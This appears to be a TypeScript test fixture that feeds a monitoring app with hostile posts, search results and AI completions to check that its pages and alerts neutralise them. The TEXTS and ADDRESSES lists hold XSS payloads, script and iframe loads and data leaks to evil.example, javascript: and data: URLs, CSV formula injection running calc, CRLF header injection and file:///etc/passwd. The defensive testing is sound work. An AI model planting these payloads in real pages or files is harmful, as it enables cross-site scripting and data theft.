/** A monitor that watched a malicious service through its own journey: the results are in the database. */
import type { WebServer } from '../../src/app/http-server.ts';
import { HOUR } from '../../src/lib/time.ts';
import { derivePending } from '../../src/monitor/derive/follower.ts';
import { executeRun } from '../../src/monitor/runs/execute.ts';
import { scan } from '../../src/monitor/schedule/scan.ts';
import { createChannel } from '../../src/monitor/alerts/manage-channels.ts';
import { deliverDueMessages } from '../../src/monitor/alerts/deliver.ts';
import { evaluateRules } from '../../src/monitor/alerts/rule-evaluation.ts';
import { createRule } from '../../src/monitor/alerts/manage-rules.ts';
import { createSearch } from '../../src/monitor/topics/save-search.ts';
import { renameTopic } from '../../src/monitor/topics/save-topic.ts';
import { fillArchive } from '../../src/store/archive/index-archive.ts';
import { startWeb } from '../../src/app/web-server.ts';
import { homeOf } from '../cli/stand.ts';
import { json, startStub, type StubAnswer, wirePost } from '../stub-service.ts';
import { makeWorld, START, type World } from '../world.ts';

/** All of it sets `hit`, opens a dialog or requests another host if executed. */
export const TEXTS = [
  '<script>globalThis.hit=1</script>',
  '"><img src=x onerror="globalThis.hit=1"><b a="',
  "'><svg/onload=globalThis.hit=1>",
  '</script><script src=https://evil.example/x.js></script>',
  '</title></style></textarea></noscript></template><iframe src=https://evil.example></iframe>',
  '<!-- --!> <!--[if IE]> <![CDATA[ ]]> <base href=https://evil.example/>',
  '{{constructor.constructor("globalThis.hit=1")()}} ${globalThis.hit=1} <%= 1 %> #{1} [[1]]',
  '[x](javascript:globalThis.hit=1) ![](https://evil.example/?q=secret) <https://evil.example>',
  '<a href="javascript:globalThis.hit=1" onclick=globalThis.hit=1 style="position:fixed;inset:0">x</a>',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><form action=https://evil.example><button>x',
  '&lt;script&gt;globalThis.hit=1&lt;/script&gt; &#60;img src=x onerror=globalThis.hit=1&#62; &amp;amp;',
  '\u202Eevil\u2066gnihtemos\u2069\u200F \u061C right to left',
  `z${'\u0301\u0328\u0489'.repeat(400)}algo`,
  '\u001B[2J\u001B]8;;https://evil.example\u0007x\u009B31m \u0085 \u2028 \u2029 \u0000 \uD800 \uDC00\uD800',
  '=HYPERLINK("https://evil.example","x") +cmd|\'/c calc\'!A1 @SUM(1)',
  'W'.repeat(3_000),
  `${'\u200D'.repeat(500)}\u{1F468}\u200D\u{1F469}\u200D\u{1F467}${'\u{1F600}'.repeat(700)}`,
  '\r\nSet-Cookie: strandline=evil\r\nLocation: https://evil.example\r\n\r\n<script>globalThis.hit=1</script>',
  '__proto__ constructor hasOwnProperty toString',
  '\u0001STX\u0002match\u0003 <mark>x</mark> %s %n %00 \\u003cscript\\u003e',
  // One character each for a browser: it breaks no line inside.
  '\u{1F468}\u200D'.repeat(150),
  '\u0915\u094D'.repeat(150),
];

/** Values in place of addresses: none of them may be followed. */
export const ADDRESSES = [
  'javascript:globalThis.hit=1',
  'JaVaScRiPt:globalThis.hit=1',
  'java\tscript:globalThis.hit=1',
  'java\nscript:globalThis.hit=1',
  ' \u0001javascript:globalThis.hit=1',
  'javascript\u0000:globalThis.hit=1',
  '\u0000javascript:globalThis.hit=1',
  'javascript://evil.example/%0AglobalThis.hit=1',
  'data:text/html,<script>globalThis.hit=1</script>',
  'vbscript:msgbox(1)',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '/\\evil.example',
  'https:evil.example',
  'http://user:pass@evil.example/',
  'http://[::1',
  'https://evil.example/"onmouseover="globalThis.hit=1',
  'https://evil.example/<script>globalThis.hit=1</script>',
  'https://\u0430pple.com/\u202Egnp.exe',
  `https://evil.example/${'a'.repeat(3_000)}`,
];

const at = <T>(list: readonly T[], i: number): T => list[i % list.length] as T; // of a list that is not empty

function post(i: number, round: number): Record<string, unknown> {
  const text = at(TEXTS, i);
  const address = at(ADDRESSES, i);
  return wirePost(String(1000 * round + i), {
    text: `ferry ${text}`,
    url: address,
    lang: i % 3 === 0 ? text.slice(0, 40) : 'en',
    created_at: new Date(Date.parse(START) + (round - 2) * HOUR + i * 60_000).toISOString(),
    like_count: i * 3,
    user: {
      id: String(i % 7),
      username: at(TEXTS, i + 3),
      name: at(TEXTS, i + 5),
      description: text,
      location: text,
      url: address,
      profile_image_url: address,
      followers_count: 5,
    },
    media: [{ media_url: address, type: text, url: address, expanded_url: address }],
    entities: {
      hashtags: [{ text: at(TEXTS, i + 7) }],
      urls: [{ expanded_url: address, url: address, display_url: text }],
      user_mentions: [{ screen_name: text, name: text, id: '1' }],
    },
    ...(i % 4 === 0
      ? { is_quote_tweet: true, quote: wirePost(`8${round}${i}`, { text, url: address }) }
      : {}),
    ...(i % 4 === 1 ? { is_retweet: true, retweet: wirePost(`7${round}${i}`, { text, url: address }) } : {}),
  });
}

function completion(round: number): Record<string, unknown> {
  const cited = ADDRESSES.map((address, i) => `[${i + 1}](${address})`).join(' ');
  const group = ADDRESSES.map((link, i) => ({
    link: i % 2 === 0 ? link : `https://evil.example/${round}/${i}?q="><script>globalThis.hit=1</script>`,
    title: at(TEXTS, i + round),
    snippet: at(TEXTS, i + 1),
    source: at(TEXTS, i),
    date: at(TEXTS, i),
  }));
  return {
    search: group,
    hacker_news_search: group,
    tweets: [],
    completion: `Ferry, round ${round}. ${TEXTS.slice(round).join(' ')} ${cited} [9](https://evil.example/1/1)`,
  };
}

const SEARCHES = [
  ['hostile-posts', 'microblog', `ferry ${at(TEXTS, 0)}`],
  ['hostile-ai', 'ai', `ferry ${at(TEXTS, 1)}`],
  ['hostile-refused', 'microblog', `refused ${at(TEXTS, 2)}`],
  ['hostile-odd', 'microblog', `odd ${at(TEXTS, 3)}`],
] as const;

/** Each search gets new results at each run: new posts and another completion. */
function answerer(): StubAnswer {
  const rounds = new Map<string, number>();
  return (request, response) => {
    const prompt = String(request.body['prompt']);
    const round = (rounds.get(prompt) ?? 0) + 1;
    rounds.set(prompt, round);
    if (request.path === '/hook' || prompt.startsWith('odd')) {
      response.writeHead(request.path === '/hook' ? 500 : 200, { 'content-type': 'text/html; x="<script>"' });
      response.end(TEXTS.join('\n').toWellFormed());
      return;
    }
    const refused = { detail: TEXTS.join(' '), error: at(TEXTS, 1) };
    if (prompt.startsWith('refused')) return json(refused, 400)(request, response);
    if (!request.path.includes('twitter')) return json(completion(round))(request, response);
    const posts = ADDRESSES.map((_, i) => post(i, round));
    return json({ miner_tweets: [...posts, { id: at(TEXTS, 0), text: 1 }, at(TEXTS, 1)] })(request, response);
  };
}

export type HostileWorld = { world: World; web: WebServer; close(): Promise<void> };

export async function openHostileWorld(): Promise<HostileWorld> {
  const stub = await startStub(answerer());
  const world = await makeWorld({
    hosted: stub.url,
    env: {
      MASTER_KEY: 'of the test, which seals nothing that matters',
      WEBHOOK_ALLOW: '127.0.0.1',
      PORT: '0',
    },
  });
  const { ctx, clock, enqueued } = world;
  const run = async () => {
    for (let next = enqueued.shift(); next !== undefined; next = enqueued.shift())
      await executeRun(ctx, next.runId);
    await derivePending(ctx, { settleMs: null });
  };
  const made = [];
  for (const [i, [slug, operation, prompt]] of SEARCHES.entries()) {
    const labels = [at(TEXTS, i).slice(0, 60)];
    const written = { slug, topic: 'hostile', operation, prompt, every: '1h', labels } as const;
    made.push((await createSearch(ctx, written)).search);
  }
  await renameTopic(ctx, 'hostile', { name: at(TEXTS, 1) });
  await run();
  const { channel } = await createChannel(ctx, { slug: 'ops', webhook: `${stub.url}/hook` });
  await createRule(ctx, { slug: 'all', name: at(TEXTS, 0), topic: 'hostile', channels: ['ops'] });
  await createRule(ctx, {
    slug: 'words',
    name: at(TEXTS, 2),
    filter: `"${at(TEXTS, 0)}"`,
    channels: ['ops'],
  });
  clock.advance(HOUR);
  await scan(ctx);
  await run();
  while (!(await fillArchive(ctx.db, { batches: 5 })));
  await evaluateRules(ctx);
  await deliverDueMessages(ctx, channel.id, new AbortController().signal);
  const web = await startWeb(homeOf(world));
  return {
    world,
    web,
    close: async () => {
      await web.close();
      await stub.close();
      await world.close();
    },
  };
}
